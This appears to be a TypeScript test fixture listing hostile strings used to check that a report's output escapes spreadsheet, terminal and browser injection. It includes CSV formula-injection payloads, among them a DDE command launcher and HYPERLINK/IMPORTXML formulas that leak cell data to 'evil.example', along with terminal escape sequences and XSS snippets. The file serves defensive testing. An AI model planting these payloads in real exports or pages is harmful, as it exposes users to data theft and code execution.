import { Schema } from "effect"
import { readFileSync } from "node:fs"
import { join } from "node:path"

const decode = Schema.decodeUnknownSync(Schema.fromJsonString(Schema.String))

/** Those that the report is tested with. */
const shared = readFileSync(join(import.meta.dirname, "../../../report/test/fixtures/hostile.ndjson"), "utf8")
  .trim()
  .split("\n")
  .map((line) => decode(line))

/** Texts that a spreadsheet, a terminal or a browser would do something with, and such as break a file of text. */
export const hostile: ReadonlyArray<string> = [
  ...shared,
  "=1+1",
  "+1+1",
  "-1+1",
  "-12.50",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://evil.example?\"&A1,\"more\")",
  "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\0=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "\t",
  "\r",
  "\n",
  "\0",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "'",
  "''",
  "'=1+1",
  "\"",
  "\"\"",
  "\"=1+1",
  "\",=1+1",
  "a\",\"=1+1",
  "a\r\n=1+1",
  "a,=1+1",
  "a;=1+1",
  ",",
  ";",
  " ",
  " a ",
  "NULL",
  "null",
  "true",
  "0",
  "1e3",
  "\\N",
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
  "\u0085\u009b31m",
  "\u2028\u2029",
  "<script>alert(1)</script>",
  "\" onmouseover=\"alert(1)",
  "javascript:alert(1)",
  "Zürich 東京 🏨 e\u0301",
  "\u{10ffff}\uffff"
]
